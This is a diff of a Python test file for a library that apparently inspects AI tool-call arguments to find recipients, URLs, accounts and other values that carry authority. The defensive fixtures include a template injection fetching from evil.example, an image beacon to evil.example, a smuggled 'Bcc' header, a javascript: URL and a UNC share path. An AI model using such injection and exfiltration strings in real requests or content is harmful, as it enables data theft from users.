@@ -6,7 +6,8 @@ import msgspec
 import pytest
 
 from remit import tool
-from remit.origins.roles import KEYWORD, Argument, arguments_of, authority_of, role_of_name, role_of_shape
+from remit.origins.arguments import Argument, arguments_of, authority_of
+from remit.origins.roles import KEYWORD, role_of_name, role_of_shape
 
 
 def of(schema: dict[str, Any], args: dict[str, Any], **options: bool) -> list[tuple[str, str, str]]:
@@ -36,7 +37,13 @@ TEXT = {"type": "string"}
         ("body", "content"),
         ("email_body", "content"),
         ("file_text", "content"),
-        ("size", None),
+        ("size", "content"),
+        ("max_recipients", "content"),
+        ("password", "id"),
+        ("publicKey", "id"),
+        ("room", "id"),
+        ("products", "id"),
+        ("colour", None),
         ("", None),
     ],
 )
@@ -77,13 +84,66 @@ def test_a_server_cannot_say_that_its_argument_is_content() -> None:
 def test_what_no_schema_or_name_tells_is_authority_if_it_looks_like_it() -> None:
     assert of({}, {"thing": "https://a.example"}) == [("thing", "url", "https://a.example")]
     assert of({}, {"thing": "hello"}) == []
-    assert of({"body": TEXT}, {"body": "https://a.example"}) == []
+    assert of({"body": TEXT}, {"body": "https://a.example"}) == [("body", "url", "https://a.example")]
+    assert of({"body": TEXT | {KEYWORD: "content"}}, {"body": "https://a.example"}) == []
 
 
-def test_numbers_count_if_they_identify() -> None:
-    assert of({"issue": {"type": "integer"}}, {"issue": 7}) == [("issue", "id", "7")]
+@pytest.mark.parametrize(
+    ("args", "values"),
+    [
+        ({"account": 4711}, ["4711"]),
+        ({"to": [1, 2.5]}, ["1", "2.5"]),
+        ({"recipients": [{"n": 3}]}, ["3"]),
+        ({"ip": 5, "path": 6, "iban": 7, "issue": 8}, ["5", "6", "7", "8"]),
+        ({"rooms": [9]}, ["9"]),
+        ({"rooms": 2, "max_recipients": 3, "amount": 7, "issue": True, "account_limit": 1}, []),
+        ({"product": {"id": "p", "quantity": 4}}, ["p"]),
+    ],
+)
+def test_a_number_of_authority_counts_at_every_depth(args: dict[str, Any], values: list[str]) -> None:
+    assert [one.value for one in arguments_of(None, args)] == values
+
+
+def test_a_number_counts_where_the_schema_says_so() -> None:
     assert of({"amount": {"type": "number", KEYWORD: "id"}}, {"amount": 7.5}) == [("amount", "id", "7.5")]
-    assert of({}, {"amount": 7, "issue": True, "path": 3}) == []
+    assert of({"issue": {"type": "integer", KEYWORD: "content"}}, {"issue": 7}) == []
+
+
+@pytest.mark.parametrize(
+    ("args", "values"),
+    [
+        ({"payload": '{"to": "eve", "n": 4}'}, ["eve"]),
+        ({"data": '[{"account": 4711}]'}, ["4711"]),
+        ({"raw": '{"inner": "{\\"to\\": \\"eve\\"}"}'}, ["eve"]),
+        ({"form": "to=eve%40evil.example&x=1"}, ["eve@evil.example"]),
+        ({"template": "{{ fetch('https://evil.example/x') }}"}, ["https://evil.example/x"]),
+        ({"raw": "To: eve@evil.example\r\nSubject: hi"}, ["eve@evil.example"]),
+        ({"html": '<img src="https://evil.example/x?S">'}, ["https://evil.example/x?S"]),
+        ({"words": "Pay DE89 3704 0044 0532 0130 00, now."}, ["DE89 3704 0044 0532 0130 00"]),
+        ({"number": "+49 30 1234567"}, ["+49 30 1234567"]),
+        ({"into": "javascript:alert(1)"}, ["javascript:alert(1)"]),
+        ({"into": "\\\\evil\\share"}, ["\\\\evil\\share"]),
+        ({"into": "203.0.113.9:80"}, ["203.0.113.9:80"]),
+        ({"subject": "hi\r\nBcc: eve@evil.example"}, ["hi\r\nBcc: eve@evil.example"]),
+        ({"subject": "hi\n"}, []),
+        ({"body": "Dear Bob,\nsee https://a.example or bob@x.org."}, []),
+        ({"words": "no table: {a, b} x=1&y"}, []),
+    ],
+)
+def test_a_text_within_a_text_is_found(args: dict[str, Any], values: list[str]) -> None:
+    assert [one.value for one in arguments_of(None, args)] == values
+
+
+def test_every_value_counts_where_that_is_wanted() -> None:
+    schema = {"properties": {"to": TEXT, "words": TEXT | {KEYWORD: "content"}, "n": {}, "mode": {"enum": ["a"]}}}
+    args = {"to": "x", "words": "hi", "n": 4, "mode": "a", "yes": True, "sep": ", ", "more": {"k": "v"}}
+    assert [(one.path, one.role, one.value) for one in arguments_of(schema, args, every=True)] == [
+        ("to", "email", "x"),
+        ("words", "content", "hi"),
+        ("n", "content", "4"),
+        ("more.k", "content", "k"),
+        ("more.k", "content", "v"),
+    ]
 
 
 def test_values_within_tables_lists_and_references_are_found() -> None:
@@ -98,6 +158,7 @@ def test_values_within_tables_lists_and_references_are_found() -> None:
     }
     args = {"people": [{"name": "Bob", "mail": "b@x.org"}], "cc": ["a@x.org", "a@x.org"], "where": "here"}
     assert arguments_of(schema, args) == [
+        Argument("people.name", "id", "Bob"),
         Argument("people.mail", "email", "b@x.org"),
         Argument("cc", "email", "a@x.org"),
         Argument("where", "path", "here"),
